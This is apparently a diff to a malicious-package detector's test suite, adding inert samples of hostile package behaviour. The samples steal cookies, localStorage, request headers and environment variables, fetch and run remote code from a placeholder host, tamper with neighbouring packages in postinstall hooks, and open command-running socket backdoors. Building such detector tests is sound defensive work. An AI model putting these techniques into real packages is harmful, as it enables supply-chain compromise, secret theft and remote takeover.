@@ -5,6 +5,33 @@ import { verdictOf } from "../../test/support/verdict-of.ts";
 
 /** What packages do to other packages, repositories and servers, and to what they are called for; inert. */
 const ATTACKS: Readonly<Record<string, Readonly<Record<string, string>>>> = {
+  "takes cookies of the page by another name": {
+    main: `const d = document;\n${SEND}d.cookie });`,
+  },
+  "takes a storage of the page by another name": {
+    main: `const { localStorage: s } = window;\n${SEND}JSON.stringify({ ...s }) });`,
+  },
+  "reads what axios sends": {
+    main: `const axios=require('axios');\naxios.interceptors.request.use((c) => { ${SEND}JSON.stringify(c.headers) }); return c; });`,
+  },
+  "loads a file that it fetched as a worker": {
+    main: `const { Worker }=require('worker_threads'),fs=require('fs');\nfetch('https://example.invalid/a.js').then((r) => r.text()).then((t) => { fs.writeFileSync('/tmp/w.js', t); new Worker('/tmp/w.js'); });`,
+  },
+  "loads a file that it fetched as a module": {
+    lib: `const fs=require('fs'),os=require('os'),path=require('path');\nexports.go = async () => { const p = path.join(os.tmpdir(), 'w.js'); fs.writeFileSync(p, await (await fetch('https://example.invalid/a.js')).text()); require(p); };`,
+  },
+  "changes a package beside it by a command": {
+    postinstall: `require('child_process').execSync(\`sed -i '1i require("./x")' node_modules/express/index.js\`);`,
+  },
+  "copies a file over another package by a command": {
+    postinstall: `require('child_process').execSync("cp a.js ../../node_modules/axios/index.js");`,
+  },
+  "runs what is said to its web socket": {
+    lib: `const { WebSocketServer }=require('ws'),{ exec }=require('child_process');\nexports.go = () => new WebSocketServer({ port: 8080 }).on('connection', (s) => s.on('message', (m) => exec(m.toString(), (e, o) => s.send(o))));`,
+  },
+  "evaluates what is said to its socket": {
+    main: `require('net').createServer((s) => s.on('data', (d) => eval(d.toString()))).listen(4444);`,
+  },
   "sends the environment through methods": {
     main: `const https=require('https');\nclass C {\n  constructor() { this.go(); }\n  collect() { return JSON.stringify(process.env); }\n  go() { this.send(this.collect()); }\n  send(b) { const r = https.request('https://example.invalid', { method: 'POST' }); r.write(b); r.end(); }\n}\nnew C();`,
   },
